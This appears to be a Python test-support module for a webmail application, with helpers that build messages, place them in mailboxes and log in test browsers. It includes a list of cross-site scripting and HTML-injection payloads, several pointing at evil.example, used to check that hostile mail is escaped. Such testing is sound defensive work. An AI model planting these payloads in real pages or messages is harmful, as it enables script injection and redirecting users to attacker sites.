"""Messages for the tests of the mail pages, hostile texts, and browsers that have logged in."""

from __future__ import annotations

import html
import re

from tests.fakes.net.web_house import ALICE, Browser, WebHouse

PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452")
#: Texts that run a script where they are not escaped: in a text, in an attribute, in a link, in a script, in a style.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=x>",
    "--><!--<script>",
    "\u202egpj.exe",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<object data=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
)


def message(subject: str = "hello", body: str = "how are you?", **fields: str) -> bytes:
    """Return a message of plain text."""
    head = {"From": "Carol <carol@away.test>", "To": ALICE, "Subject": subject, "Message-ID": "<one@away.test>"}
    lines = [f"{name.replace('_', '-')}: {value}" for name, value in {**head, **fields}.items()]
    return "\r\n".join([*lines, "", body, ""]).encode()


def with_parts(*parts: tuple[str, bytes], subject: str = "parts") -> bytes:
    """Return a message of several parts, each the text of its header section and its body."""
    kind = 'multipart/mixed; boundary="edge"'
    head = message(subject, Content_Type=kind, MIME_Version="1.0").partition(b"\r\n\r\n")[0]
    whole = b"".join(b"\r\n--edge\r\n" + text.encode() + b"\r\n\r\n" + body for text, body in parts)
    return head + b"\r\n\r\n" + whole + b"\r\n--edge--\r\n"


def put(house: WebHouse, octets: bytes, user: str = ALICE) -> str:
    """Put a message into a maildrop. Returns its unique-id."""
    login = house.house.store.accounts._logins[tuple(user.split("@"))]
    house.house.store.put(login.account, octets)
    row = house.house.store.drops[login.account.account_id][-1]
    return f"U{row.row_id:06d}"


def logged_in(house: WebHouse, *names: str) -> Browser:
    """Return a browser with alice as account 0, or with other accounts."""
    browser = house.browser()
    for name in names or (ALICE,):
        browser.log_in(name)
    return browser


def subjects(text: str) -> list[str]:
    """Return the subjects of a list."""
    return [html.unescape(one) for one in re.findall(r'<span class="subject"><bdi>(.*?)</bdi>', text)]
